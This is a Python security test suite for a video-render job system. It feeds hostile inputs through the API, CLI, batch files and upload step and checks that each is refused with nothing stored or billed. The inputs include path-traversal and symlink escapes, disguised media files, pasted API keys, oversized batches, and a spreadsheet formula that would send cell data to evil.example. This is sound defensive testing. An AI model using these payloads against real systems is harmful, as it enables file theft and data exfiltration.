"""Hostile input, one attack a row, each through a real entry point.

Every row drives the producer API (``enqueue_render``, ``enqueue_batch_file``), the
command line (click's runner), a schedule's run or the worker's upload step against a
real redis-server and the simulator over HTTP, and asserts all three: nothing was spent
(no upload, no submission, nothing billed), nothing wrong was written (no job, batch or
broker message; a worker-side refusal fails its job with no uploaded url), and the answer
is the specified one, never repeating the secret the attack carried.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import redis
from click.testing import CliRunner

from config.settings import get_settings, load_settings
from simulator import PNG_BYTES
from simulator.testing import SimulatorProcess
from tests.fleet import fleet_env, point_this_process_at
from tests.pipeline_helpers import make_engine
from worker.batch import InvalidBatch, parse_records
from worker.cli.main import main
from worker.errors import InvalidRequest
from worker.job.engine import get_engine, reset_engine
from worker.job.pipeline import prepare
from worker.job.record import JobState
from worker.render.validation import validate_request
from worker.web.metrics import render_metrics

MODEL = "doubao-seedance-2-0-1080p"
KEY = "sk-live-9f8e7d6c5b4a39281706f5e4d3c2b1a0"  # a key pasted where an alias belongs
HEX_TOKEN = "a3f9c2e18b7d4056e9f1a2b3c4d5e6f7a8b9c0d1"
# A real key can look like a name: 32 characters or fewer, no segment of 20 or more.
SHORT_KEY = "kv7.ab3-x9.zq-m2"
SECRET = "hunter2"  # inside the files that must never leave the machine
UTF16_SECRET = f"secret={SECRET}\n".encode("utf-16")  # starts with the FF FE byte order mark
MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(413)  # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
AVIF = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(64)


@dataclass
class World:
    """The places and services of one row."""

    root: Path
    allowed: Path  # RELAYDANCE_MEDIA_DIRS
    outside: Path  # a readable directory the allow-list does not name
    sim: SimulatorProcess
    redis: redis.Redis
    env: dict[str, str]
    monkeypatch: pytest.MonkeyPatch

    def file(self, where: str, name: str, data: bytes) -> Path:
        path = (self.allowed if where == "allowed" else self.outside) / name
        path.write_bytes(data)
        return path

    def without_keys(self) -> None:
        """A producer with no keys configured: the workers hold them."""
        env = {k: v for k, v in self.env.items() if k != "RELAYDANCE_API_KEY"}
        point_this_process_at(env, self.monkeypatch)

    def with_short_key(self) -> None:
        """A producer holding, besides ``default``, a key shaped like a name."""
        keys = json.dumps({"tenant-b": SHORT_KEY})
        point_this_process_at({**self.env, "RELAYDANCE_API_KEYS": keys}, self.monkeypatch)


@pytest.fixture
def world(
    redis_url: str,
    redis_client: redis.Redis,
    sim: SimulatorProcess,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[World]:
    allowed, outside, cwd = tmp_path / "media", tmp_path / "private", tmp_path / "cwd"
    for directory in (allowed, outside, cwd):
        directory.mkdir()
    env = fleet_env(
        redis_url=redis_url, sim_url=sim.url, output_dir=tmp_path / "renders",
        RELAYDANCE_MEDIA_DIRS=str(allowed),
    )  # fmt: skip
    point_this_process_at(env, monkeypatch)
    monkeypatch.chdir(cwd)  # the working directory holds nothing of interest
    yield World(tmp_path, allowed, outside, sim, redis_client, env, monkeypatch)
    get_settings.cache_clear()
    reset_engine()


# Entry points: each returns the answer (error text) the caller saw ---------------------


def _request(**fields: Any) -> dict[str, Any]:
    return {"model": MODEL, "prompt": "a quiet harbour at dawn", **fields}


def via_api(fields: dict[str, Any], key: str = "default") -> str:
    from tasks.api import enqueue_render

    with pytest.raises(InvalidRequest) as info:
        enqueue_render(_request(**fields), key=key)
    return str(info.value)


def via_cli(args: list[str]) -> str:
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2, result.output
    return result.output


def via_cli_render(fields: dict[str, Any], key: str = "default") -> str:
    args = ["render", "--model", MODEL, "--prompt", "a quiet harbour", "--key", key]
    for name, flag in (("images", "--image"), ("videos", "--video"), ("audio", "--audio")):
        for value in fields.get(name, []):
            args += [flag, value]
    return via_cli(args)


def via_batch_api(path: Path, key: str = "default") -> str:
    from tasks.batches import enqueue_batch_file

    with pytest.raises((InvalidBatch, InvalidRequest)) as info:
        enqueue_batch_file(path, key=key)
    error = info.value
    if isinstance(error, InvalidBatch):
        return "\n".join(message for bad in error.lines for message in bad.messages())
    return str(error)


def jsonl(world: World, *lines: Any, name: str = "batch.jsonl") -> Path:
    path = world.root / name
    path.write_text("".join((ln if isinstance(ln, str) else json.dumps(ln)) + "\n" for ln in lines))
    return path


# The rows ------------------------------------------------------------------------------

Attack = Callable[[World], str]


def _outside_absolute(w: World) -> str:
    return via_api({"images": [str(w.file("outside", "photo.png", PNG_BYTES))]})


def _dotdot_escape(w: World) -> str:
    w.file("outside", "photo.png", PNG_BYTES)
    return via_api({"images": [f"{w.allowed}/../private/photo.png"]})


def _symlink_out(w: World) -> str:
    (w.allowed / "link.png").symlink_to(w.file("outside", "photo.png", PNG_BYTES))
    return via_api({"images": [str(w.allowed / "link.png")]})


def _symlinked_dir_out(w: World) -> str:
    w.file("outside", "photo.png", PNG_BYTES)
    (w.allowed / "shared").symlink_to(w.outside, target_is_directory=True)
    return via_cli_render({"images": [str(w.allowed / "shared" / "photo.png")]})


def _relative_escape_from_cwd(w: World) -> str:
    w.file("outside", "photo.png", PNG_BYTES)
    return via_cli_render({"images": ["../private/photo.png"]})


def _utf16_text_as_audio(w: World) -> str:
    return via_api({"audio": [str(w.file("allowed", "voice.mp3", UTF16_SECRET))]})


def _utf16_text_as_audio_cli(w: World) -> str:
    return via_cli_render({"audio": [str(w.file("allowed", "voice.wav", UTF16_SECRET))]})


def _lone_mpeg_header(w: World) -> str:
    data = MP3_FRAME[:4] + f"secret={SECRET};".encode() * 40
    return via_api({"audio": [str(w.file("allowed", "voice.mp3", data))]})


def _heic_image(w: World) -> str:
    return via_api({"images": [str(w.file("allowed", "photo.heic", HEIC))]})


def _avif_image(w: World) -> str:
    return via_cli_render({"images": [str(w.file("allowed", "photo.png", AVIF))]})


def _gif_image(w: World) -> str:
    return via_api({"images": [str(w.file("allowed", "photo.gif", b"GIF89a" + bytes(32)))]})


def _nul_in_path(w: World) -> str:
    return via_api({"images": [f"{w.allowed}/photo.png\x00.jpg"]})


def _batch_line_outside(w: World) -> str:
    photo = w.file("outside", "photo.png", PNG_BYTES)
    return via_batch_api(jsonl(w, _request(images=[str(photo)])))


def _batch_line_dotdot(w: World) -> str:
    w.file("outside", "photo.png", PNG_BYTES)
    path = w.allowed / "batch.csv"  # relative paths are taken from the file's directory
    path.write_text(f"model,prompt,images\n{MODEL},a harbour,../private/photo.png\n")
    return via_batch_api(path)


def _batch_cli_symlink(w: World) -> str:
    (w.allowed / "link.png").symlink_to(w.file("outside", "photo.png", PNG_BYTES))
    return via_cli(
        ["batch", "submit", str(jsonl(w, _request(images=[str(w.allowed / "link.png")])))]
    )


def _key_as_alias(w: World) -> str:
    w.without_keys()
    return via_api({}, key=KEY)


def _token_as_alias(w: World) -> str:
    w.without_keys()
    return via_api({}, key=HEX_TOKEN)


def _key_as_cli_alias(w: World) -> str:
    w.without_keys()
    return via_cli_render({}, key=KEY)


def _key_in_batch_column(w: World) -> str:
    w.without_keys()
    return via_batch_api(jsonl(w, {**_request(), "key": KEY}))


def _key_as_batch_alias(w: World) -> str:
    w.without_keys()
    return via_batch_api(jsonl(w, _request()), key=KEY)


def _short_key_as_alias(w: World) -> str:
    w.with_short_key()
    return via_api({}, key=SHORT_KEY)


def _short_key_as_cli_key(w: World) -> str:
    w.with_short_key()
    return via_cli_render({}, key=SHORT_KEY)


def _unknown_alias(w: World) -> str:
    return via_api({}, key="tenant-zz")


def _oversized_file(w: World) -> str:
    path = w.root / "huge.jsonl"
    with path.open("wb") as fh:
        fh.truncate(64 * 1024 * 1024 + 1)  # sparse: the cap is checked before any read
    return via_cli(["batch", "submit", str(path)])


def _endless_line(w: World) -> str:
    return via_batch_api(jsonl(w, json.dumps(_request(prompt="x" * 70_000))))


def _too_many_lines(w: World) -> str:
    return via_batch_api(jsonl(w, *(["{}"] * 100_002)))


def _huge_integer(w: World) -> str:
    return via_batch_api(
        jsonl(w, f'{{"model": "{MODEL}", "prompt": "p", "seconds": {"9" * 5000}}}')
    )


def _deep_nesting(w: World) -> str:
    return via_batch_api(jsonl(w, '{"model": ' + "[" * 30_000 + "]" * 30_000 + "}"))


def _huge_csv_seconds(w: World) -> str:
    path = w.root / "batch.csv"
    path.write_text(f"model,prompt,seconds\n{MODEL},a harbour,{'9' * 5000}\n")
    return via_batch_api(path)


@dataclass(frozen=True)
class Row:
    attack: Attack
    field: str  # the field the answer names
    says: str  # and what it says
    secret: str = SECRET  # never in the answer, a record, a message, a label or a log


ROWS = {
    "absolute-path-outside-the-allowed-dirs": Row(_outside_absolute, "images", "outside the directories"),
    "dotdot-escape-from-an-allowed-dir": Row(_dotdot_escape, "images", "RELAYDANCE_MEDIA_DIRS"),
    "symlink-in-allowed-dir-to-a-file-outside": Row(_symlink_out, "images", "through a symlink"),
    "symlinked-directory-out-cli": Row(_symlinked_dir_out, "images", "outside the directories"),
    "relative-dotdot-from-cwd-cli": Row(_relative_escape_from_cwd, "images", "move the file"),
    "utf16-text-with-bom-as-mp3": Row(_utf16_text_as_audio, "audio", "not a recognised media file"),
    "utf16-text-with-bom-as-wav-cli": Row(_utf16_text_as_audio_cli, "audio", "not a recognised"),
    "one-mpeg-header-then-text": Row(_lone_mpeg_header, "audio", "not a recognised media file"),
    "heic-as-image": Row(_heic_image, "images", "HEIC image, which the providers do not take"),
    "avif-named-png-cli": Row(_avif_image, "images", "convert it to JPEG, PNG or WebP"),
    "gif-as-image": Row(_gif_image, "images", "GIF image"),
    "nul-byte-in-path": Row(_nul_in_path, "images", "NUL character"),
    "batch-jsonl-absolute-path-outside": Row(_batch_line_outside, "images", "outside the directories"),
    "batch-csv-dotdot-path": Row(_batch_line_dotdot, "images", "outside the directories"),
    "batch-cli-symlink-out": Row(_batch_cli_symlink, "images", "through a symlink"),
    "raw-key-as-alias-no-keys-configured": Row(_key_as_alias, "key", "looks like an API key", KEY),
    "hex-token-as-alias-no-keys-configured": Row(_token_as_alias, "key", "looks like an API key", HEX_TOKEN),
    "raw-key-as-cli-key": Row(_key_as_cli_alias, "--key", "looks like an API key", KEY),
    "raw-key-in-batch-key-column": Row(_key_in_batch_column, "key", "looks like an API key", KEY),
    "raw-key-as-batch-key": Row(_key_as_batch_alias, "key", "looks like an API key", KEY),
    "configured-name-shaped-key-as-alias": Row(_short_key_as_alias, "key", "configured API keys", SHORT_KEY),
    "configured-name-shaped-key-as-cli-key": Row(_short_key_as_cli_key, "--key", "configured API keys", SHORT_KEY),
    "unknown-alias-is-not-echoed": Row(_unknown_alias, "key", "configured: default", "tenant-zz"),
    "batch-file-over-64-mib": Row(_oversized_file, "file", "more than 67108864"),
    "batch-line-over-64-kib": Row(_endless_line, "file", "line 1 is longer than 65536 bytes"),
    "batch-over-max-lines": Row(_too_many_lines, "file", "more than 100000 requests"),
    "batch-integer-over-4300-digits": Row(_huge_integer, "line", "cannot be read"),
    "batch-json-nested-30000-deep": Row(_deep_nesting, "line", "cannot be read"),
    "batch-csv-seconds-5000-digits": Row(_huge_csv_seconds, "seconds", "far too many digits"),
}  # fmt: skip


_READ = {
    "string": lambda c, k: c.get(k),
    "hash": lambda c, k: c.hgetall(k),
    "list": lambda c, k: c.lrange(k, 0, -1),
    "set": lambda c, k: c.smembers(k),
    "zset": lambda c, k: c.zrange(k, 0, -1),
}


def everything_stored(client: redis.Redis) -> str:
    """Every key and value in Redis: job records, batches, broker messages, limits."""
    parts = []
    for key in client.scan_iter(count=1000):
        read = _READ.get(client.type(key))
        parts.append(f"{key}={read(client, key) if read else ''}")
    return "\n".join(parts)


def assert_nothing_spent(sim: SimulatorProcess) -> None:
    stats = sim.stats()
    assert (stats["uploads"], stats["submissions"], stats["billed_tasks"]) == (0, 0, 0), stats


@pytest.mark.parametrize("row", list(ROWS.values()), ids=list(ROWS))
def test_hostile_input_is_refused_before_anything_is_spent_or_stored(
    world: World, row: Row, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    answer = row.attack(world)
    assert row.field in answer and row.says in answer, answer
    assert row.secret not in answer
    assert_nothing_spent(world.sim)
    stored = everything_stored(world.redis)
    assert ":job:" not in stored and ":batch:" not in stored, stored[:2000]
    assert world.redis.llen("celery") == 0
    metrics = render_metrics(get_engine())
    listed = CliRunner().invoke(main, ["jobs", "--json"]).output
    for where in (stored, metrics, listed, caplog.text):
        assert row.secret not in where


def test_every_row_is_hostile_and_counted() -> None:
    # docs/security.md states this count; a new row must be added there too.
    assert len(ROWS) == 29


# The worker's own check, on the handle it uploads ----------------------------------------


def _recorded(world: World, fields: dict[str, Any], *, producer_dirs: list[Path]) -> str:
    """A job recorded by a producer whose allow-list was ``producer_dirs``."""
    request = validate_request(_request(**fields), media_dirs=producer_dirs)
    engine = get_engine()
    return engine.store.create_render(request, alias="default")


def _swap_for_symlink(w: World) -> tuple[str, str]:
    photo = w.file("allowed", "photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
    photo.unlink()
    photo.symlink_to(w.file("outside", "secret.png", PNG_BYTES))
    return job_id, "outside the directories"


def _swap_for_utf16(w: World) -> tuple[str, str]:
    voice = w.file("allowed", "voice.mp3", MP3_FRAME * 2)
    job_id = _recorded(w, {"audio": [str(voice)]}, producer_dirs=[w.allowed])
    voice.write_bytes(UTF16_SECRET)
    return job_id, "not a recognised media file"


def _wider_producer(w: World) -> tuple[str, str]:
    photo = w.file("outside", "photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.root])
    return job_id, "outside the directories"


def _dir_swapped_for_symlink(w: World) -> tuple[str, str]:
    (w.allowed / "sub").mkdir()
    photo = w.file("allowed", "sub/photo.png", PNG_BYTES)
    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
    os.rename(w.allowed / "sub", w.root / "old-sub")
    w.file("outside", "photo.png", PNG_BYTES)
    (w.allowed / "sub").symlink_to(w.outside, target_is_directory=True)
    return job_id, "outside the directories"


def _record_not_canonical(w: World) -> tuple[str, str]:
    # A record the producer did not resolve (written by other code, or by hand).
    w.file("allowed", "photo.png", PNG_BYTES)
    (w.allowed / "sub").mkdir()
    request = validate_request(
        _request(images=[f"{w.allowed}/sub/../photo.png"]), check_files=False
    )
    return get_engine().store.create_render(request, alias="default"), "now resolves elsewhere"


UPLOAD_ROWS = {
    "file-swapped-for-a-symlink-out-after-validation": _swap_for_symlink,
    "directory-swapped-for-a-symlink-out-after-validation": _dir_swapped_for_symlink,
    "file-overwritten-with-utf16-text-after-validation": _swap_for_utf16,
    "producer-allow-list-wider-than-the-workers": _wider_producer,
    "record-with-a-dotdot-path": _record_not_canonical,
}


@pytest.mark.parametrize("attack", list(UPLOAD_ROWS.values()), ids=list(UPLOAD_ROWS))
def test_the_upload_step_checks_again_and_uploads_nothing(
    world: World, attack: Callable[[World], tuple[str, str]]
) -> None:
    job_id, says = attack(world)
    engine = make_engine(load_settings())
    try:
        job = engine.store.get(job_id)
        assert job is not None
        outcome = prepare(engine, job_id, seq=job.seq)
        assert outcome.action == "stop"
        job = engine.store.get(job_id)
        assert job is not None
        assert job.state is JobState.FAILED and job.error_code == "file_refused"
        assert says in (job.error_message or ""), job.error_message
        assert SECRET not in (job.error_message or "")
        assert job.media_urls == {}
        assert_nothing_spent(world.sim)
    finally:
        engine.close()


def test_a_file_inside_the_allowed_dirs_is_still_uploaded(world: World) -> None:
    # The control row: the harness refuses hostile input, not everything.
    photo = world.file("allowed", "photo.png", PNG_BYTES)
    job_id = _recorded(world, {"images": [str(photo)]}, producer_dirs=[world.allowed])
    engine = make_engine(load_settings())
    try:
        job = engine.store.get(job_id)
        assert job is not None
        assert prepare(engine, job_id, seq=job.seq).action == "next"
        assert world.sim.stats()["uploads"] == 1
    finally:
        engine.close()


# Schedules and reports -------------------------------------------------------------------


def test_a_scheduled_run_checks_files_like_the_command_line(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    from worker.batch.schedules import Schedules
    from worker.infra.celery_app import app

    photo = world.file("outside", "photo.png", PNG_BYTES)
    # Added where the file was allowed; the worker that runs it does not allow it.
    parsed = parse_records([_request(images=[str(photo)])], media_dirs=[world.root])
    schedules = Schedules(get_engine(), app)
    schedules.add("nightly", cron="0 2 * * *", parsed=parsed)
    caplog.set_level(logging.WARNING)
    assert schedules.run("nightly") is None
    assert "line 1: images: local file" in caplog.text
    assert "outside the directories" in caplog.text
    assert ":job:" not in everything_stored(world.redis)
    assert_nothing_spent(world.sim)


def test_report_cells_never_run_as_formulas(world: World) -> None:
    from tasks.batches import enqueue_batch_file

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    path = jsonl(world, {**_request(), formula: 1}, _request())
    # A zero budget: the valid line is skipped, so the batch spends nothing.
    submission = enqueue_batch_file(path, skip_invalid=True, budget=0.0)
    result = CliRunner().invoke(main, ["batch", "report", submission.batch_id])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    invalid = next(row for row in rows if row["state"] == "invalid")
    assert invalid["error"].startswith("'=HYPERLINK("), invalid["error"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert ":job:" not in everything_stored(world.redis)
    assert_nothing_spent(world.sim)
